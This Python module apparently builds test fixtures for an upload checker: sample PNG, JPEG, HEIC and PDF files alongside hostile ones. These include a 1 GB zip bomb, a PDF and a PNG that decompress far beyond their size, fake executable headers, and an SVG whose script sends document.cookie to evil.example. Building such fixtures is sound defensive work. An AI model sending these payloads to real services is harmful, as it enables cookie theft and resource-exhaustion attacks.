"""Files that people send, and files that somebody sends to do harm: made here, by hand or with the system's own libraries."""

import ctypes
import random
import struct
import zlib


def png(width, height, row=None, rows=None, depth=8, color=2):
    """A PNG; rows: how many are really in it; depth and color: as its head says them."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = row or b"\x00" + b"\x20\x80\xe0" * width
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(height if rows is None else rows)) + packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
            + chunk(b"IDAT", packed) + chunk(b"IEND", b""))


def one_bit_png(side):
    """A PNG of so many pixels a side, each a bit: small as a file."""
    return png(side, side, b"\x00" + bytes(side // 8), depth=1, color=0)


def card(width, height):
    """The pixels of a card on a table, with the noise of a camera: they pack badly, as those of photos do."""
    noise, rows = random.Random(7), []
    for y in range(height):
        row = bytearray(noise.randbytes(width * 3))
        if height // 6 < y < height * 5 // 6:
            start, end = width // 8 * 3, width * 7 // 8 * 3
            is_ink = (y // 24) % 4 == 1 and height // 3 < y
            shade = bytes(max(0, (60 if is_ink else 225) + value // 8 - 16) for value in row[start:end])
            row[start:end] = shade
        rows.append(bytes(row))
    return b"".join(rows)


def jpeg(width, height, pixels=None):
    """A photo: of stripes, or of these pixels."""
    library = ctypes.CDLL("libturbojpeg.so.0")
    library.tjInitCompress.restype = ctypes.c_void_p
    pixels = pixels or b"".join(bytes((x * 3 % 256, y % 256, 90)) for y in range(height) for x in range(width))
    made, size = ctypes.POINTER(ctypes.c_ubyte)(), ctypes.c_ulong(0)
    assert library.tjCompress2(ctypes.c_void_p(library.tjInitCompress()), pixels, width, 0, height, 0,
                               ctypes.byref(made), ctypes.byref(size), 2, 90, 0) == 0
    return ctypes.string_at(made, size.value)


def with_exif(file, orientation=6):
    """The same held upright, with the place where it was taken."""
    def entry(tag, kind, count, value):
        return struct.pack(">HHI", tag, kind, count) + value

    gps = 8 + 2 + 2 * 12 + 4
    tiff = b"MM\x00\x2a" + struct.pack(">I", 8) + struct.pack(">H", 2)
    tiff += entry(274, 3, 1, struct.pack(">HH", orientation, 0)) + entry(0x8825, 4, 1, struct.pack(">I", gps))
    tiff += struct.pack(">I", 0) + struct.pack(">H", 1) + entry(2, 5, 3, struct.pack(">I", gps + 18)) + struct.pack(">I", 0)
    tiff += struct.pack(">6I", 29, 1, 45, 1, 36, 1) + b"Houston, Pixel 9"
    segment = b"Exif\x00\x00" + tiff
    return file[:2] + b"\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment + file[2:]


class HeifError(ctypes.Structure):
    _fields_ = [("code", ctypes.c_int), ("subcode", ctypes.c_int), ("message", ctypes.c_char_p)]


def heic(width, height, path):
    """A photo as phones write it, by way of a file."""
    library = ctypes.CDLL("libheif.so.1")
    pointer = ctypes.c_void_p
    library.heif_context_alloc.restype = pointer
    library.heif_image_get_plane.restype = ctypes.POINTER(ctypes.c_ubyte)
    for name in ("heif_context_get_encoder_for_format", "heif_image_create", "heif_image_add_plane",
                 "heif_context_encode_image", "heif_context_write_to_file"):
        getattr(library, name).restype = HeifError
    context, encoder, image, handle = pointer(library.heif_context_alloc()), pointer(), pointer(), pointer()
    assert library.heif_context_get_encoder_for_format(context, 1, ctypes.byref(encoder)).code == 0
    assert library.heif_image_create(width, height, 1, 10, ctypes.byref(image)).code == 0
    assert library.heif_image_add_plane(image, 10, width, height, 24).code == 0
    stride = ctypes.c_int()
    plane = library.heif_image_get_plane(image, 10, ctypes.byref(stride))
    for y in range(height):
        row = bytes(v for x in range(width) for v in (x % 256, y % 256, (x * y) % 256))
        ctypes.memmove(ctypes.addressof(plane.contents) + y * stride.value, row, len(row))
    assert library.heif_context_encode_image(context, image, encoder, None, ctypes.byref(handle)).code == 0
    assert library.heif_context_write_to_file(context, path.encode()).code == 0
    with open(path, "rb") as file:
        return file.read()


def pdf(catalog="", pages=1, head="", tail=b""):
    """A PDF of empty pages."""
    kids = " ".join(f"{number + 3} 0 R" for number in range(pages))
    objects = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>"]
    objects += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>"] * pages
    text, places = f"%PDF-1.7\n{head}", []
    for number, content in enumerate(objects):
        places.append(len(text))
        text += f"{number + 1} 0 obj\n{content}\nendobj\n"
    start = len(text)
    text += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n" + "".join(f"{place:010d} 00000 n \n" for place in places)
    return (text + f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n").encode() + tail


def locked_pdf():
    """A PDF that wants a password."""
    library = ctypes.CDLL("libqpdf.so.29")
    library.qpdf_init.restype = ctypes.c_void_p
    library.qpdf_get_buffer.restype = ctypes.POINTER(ctypes.c_ubyte)
    library.qpdf_get_buffer_length.restype = ctypes.c_size_t
    made, plain = ctypes.c_void_p(library.qpdf_init()), pdf()
    assert library.qpdf_read_memory(made, b"plain", plain, ctypes.c_ulonglong(len(plain)), None) < 2
    library.qpdf_init_write_memory(made)
    library.qpdf_set_r6_encryption_parameters2(made, b"secret", b"owner", 1, 1, 1, 1, 1, 1, 0, 1)
    assert library.qpdf_write(made) < 2
    return ctypes.string_at(library.qpdf_get_buffer(made), library.qpdf_get_buffer_length(made))


def unpacking_pdf(size):
    """A PDF whose objects unpack to so many bytes of blanks."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"1 0 2 40 ")
    packed += b"".join(packer.compress(b" " * (1 << 20)) for _ in range(size >> 20)) + packer.flush()
    head = b"%PDF-1.7\n"
    stream = (b"3 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
              + packed + b"\nendstream\nendobj\n")
    start = len(head) + len(stream)
    rows = zlib.compress(b"".join(struct.pack(">BIB", *row) for row in
                                  ((0, 0, 255), (2, 3, 0), (2, 3, 1), (1, len(head), 0), (1, start, 0))))
    table = (b"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % len(rows)
             + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)
    return head + stream + table


def unpacking_zip():
    """An archive of one file that unpacks to 1 GB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), 1 << 30, 5, 0) + b"a.pdf"
    central = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), 1 << 30, 5, 0, 0, 0, 0, 0, 0) + b"a.pdf"
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(packed), 0)
    return local + packed + central + end


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/"+document.cookie)</script></svg>'
PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(200)
WINDOWS = b"MZ\x90\x00" + bytes(200)
